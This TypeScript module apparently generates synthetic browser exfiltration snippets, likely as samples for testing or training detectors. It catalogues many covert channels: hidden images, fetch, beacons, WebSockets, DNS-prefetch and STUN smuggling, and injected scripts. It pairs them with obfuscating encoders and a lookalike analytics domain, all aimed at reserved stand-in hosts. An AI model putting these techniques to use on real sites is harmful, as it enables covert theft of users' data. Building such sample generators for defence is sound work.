import type { Random } from "../random.js";
import { disguise } from "./disguise.js";

/** Hosts that nobody can own: reserved names and documentation addresses. */
export function hostOf(random: Random): string {
  const word = random.word();
  return random.pick([
    `${word}-${random.word()}.example`,
    `cdn.${word}.example.com`,
    `${word}stats.example.net`,
    `static-${word}.example.org`,
    `www.google-anaiytlcs-${word}.example`,
    `jquery-${word}.test`,
    `api.${word}pay.test`,
    `203.0.113.${random.int(2, 250)}`,
    `198.51.100.${random.int(2, 250)}:${random.pick(["8080", "8443", "3000"])}`,
  ]);
}

export function pathOf(random: Random): string {
  const word = random.word();
  return random.pick([
    "/gate.php",
    "/collect",
    `/${word}.gif`,
    "/g/collect",
    "/api/v1/log",
    `/${word}/in.php`,
    "/pixel",
    "/",
    `/s/${word}.js`,
  ]);
}

export function addressOf(random: Random): string {
  return `${random.pick(["https", "https", "https", "http"])}://${hostOf(random)}${pathOf(random)}`;
}

const wrap: readonly ((data: string) => string)[] = [
  (data) => `encodeURIComponent(${data})`,
  (data) => `btoa(unescape(encodeURIComponent(${data})))`,
  (data) => `btoa(${data})`,
  (data) => `encodeURIComponent(btoa(${data}))`,
  (data) => `Array.prototype.map.call(String(${data}),function(c){return c.charCodeAt(0).toString(16)}).join("")`,
  (data) => `escape(String(${data}).split("").reverse().join(""))`,
  (data) => `Array.from(String(${data})).map(function(c){return String.fromCharCode(c.charCodeAt(0)^7)}).join("")`,
];

type Sender = (url: string, data: string, name: string) => string;

/** Ways out. `url` and `data` are expressions that give texts; `name` is a fresh variable. */
export const senders: Readonly<Record<string, Sender>> = {
  image: (url, data) => `new Image().src = ${url} + "?d=" + ${data};`,
  "image-element": (url, data, name) =>
    `var ${name} = document.createElement("img"); ${name}.width = 1; ${name}.height = 1; ${name}.style.display = "none"; ${name}.src = ${url} + "?" + ${data}; document.body.appendChild(${name});`,
  "image-markup": (url, data, name) =>
    `var ${name} = document.createElement("div"); ${name}.innerHTML = '<img width="0" height="0" src="' + ${url} + "?q=" + ${data} + '">'; document.body.appendChild(${name});`,
  "fetch-get": (url, data) => `fetch(${url} + "?q=" + ${data}, { mode: "no-cors" });`,
  "fetch-post": (url, data) => `fetch(${url}, { method: "POST", mode: "no-cors", body: ${data} });`,
  "fetch-hidden": (url, data) =>
    `window["fe" + "tch"](${url}, { method: "POST", body: JSON.stringify({ p: ${data} }) })["catch"](function () {});`,
  xhr: (url, data, name) =>
    `var ${name} = new XMLHttpRequest(); ${name}.open("POST", ${url}, true); ${name}.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"); ${name}.send("data=" + ${data});`,
  "xhr-old": (url, data, name) =>
    `var ${name} = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject("Microsoft.XMLHTTP"); ${name}["open"]("GET", ${url} + "?" + ${data}, !0); ${name}["send"]();`,
  beacon: (url, data) => `navigator.sendBeacon(${url}, ${data});`,
  "beacon-blob": (url, data) => `navigator.sendBeacon && navigator.sendBeacon(${url}, new Blob([${data}], { type: "text/plain" }));`,
  socket: (url, data, name) =>
    `var ${name} = new WebSocket(${url}.replace(/^http/, "ws")); ${name}.onopen = function () { ${name}.send(${data}); };`,
  "event-source": (url, data) => `new EventSource(${url} + "?s=" + ${data});`,
  form: (url, data, name) =>
    `var ${name} = document.createElement("form"); ${name}.method = "POST"; ${name}.action = ${url}; ${name}.style.display = "none"; ${name}.innerHTML = '<input type="hidden" name="d">'; ${name}.firstChild.value = ${data}; document.body.appendChild(${name}); ${name}.submit();`,
  script: (url, data, name) =>
    `var ${name} = document.createElement("script"); ${name}.src = ${url} + "?cb=" + ${data}; (document.head || document.documentElement).appendChild(${name});`,
  prefetch: (url, data, name) =>
    `var ${name} = document.createElement("link"); ${name}.rel = "prefetch"; ${name}.href = ${url} + "?p=" + ${data}; document.head.appendChild(${name});`,
  "dns-prefetch": (url, data, name) =>
    `var ${name} = document.createElement("link"); ${name}.rel = "dns-prefetch"; ${name}.href = "//" + String(${data}).toLowerCase().replace(/[^a-z0-9]/g, "").slice(0, 60) + "." + ${url}.split("/")[2]; document.head.appendChild(${name});`,
  iframe: (url, data, name) =>
    `var ${name} = document.createElement("iframe"); ${name}.style.cssText = "width:0;height:0;border:0"; ${name}.src = ${url} + "#" + ${data}; document.body.appendChild(${name});`,
  style: (url, data) => `document.body.style.backgroundImage = "url(" + ${url} + "?c=" + ${data} + ")";`,
  "style-sheet": (url, data, name) =>
    `var ${name} = document.createElement("style"); ${name}.textContent = "@import url('" + ${url} + "?c=" + ${data} + "');"; document.head.appendChild(${name});`,
  location: (url, data) => `window.location.href = ${url} + "?r=" + ${data};`,
  popup: (url, data) => `window.open(${url} + "?w=" + ${data}, "_blank", "width=1,height=1");`,
  "jquery-post": (url, data) => `jQuery.post(${url}, { data: ${data} });`,
  "jquery-ajax": (url, data) => `$.ajax({ url: ${url}, type: "POST", crossDomain: true, dataType: "text", data: { info: ${data} } });`,
  "peer-connection": (url, data, name) =>
    `var ${name} = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + String(${data}).slice(0, 40).replace(/\\W/g, "") + "." + ${url}.split("/")[2] }] }); ${name}.createDataChannel("x"); ${name}.createOffer().then(function (o) { return ${name}.setLocalDescription(o); });`,
  worker: (url, data, name) =>
    `var ${name} = new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){fetch(e.data[0],{method:'POST',body:e.data[1]})}"]))); ${name}.postMessage([${url}, ${data}]);`,
  "dynamic-import": (url, data) => `import(${url} + "?m=" + ${data});`,
  "opener-message": (url, data) => `(window.opener || window.top).postMessage({ u: ${url}, d: ${data} }, "*");`,
};

/** Statements that send the text `data` somewhere, in a seeded way. */
export function sendStatements(random: Random, data: string, name: string): { readonly via: string; readonly code: string } {
  const via = random.pick(Object.keys(senders));
  return { via, code: sendVia(random, via, data, name) };
}

export function sendVia(random: Random, via: string, data: string, name: string): string {
  const sender = senders[via];
  if (!sender) throw new Error(`No way out is called ${via}`);
  const address = addressOf(random);
  const url = disguise(random, address);
  return sender(url.startsWith('"') || url.startsWith("[") ? url : `(${url})`, random.pick(wrap)(data), name);
}
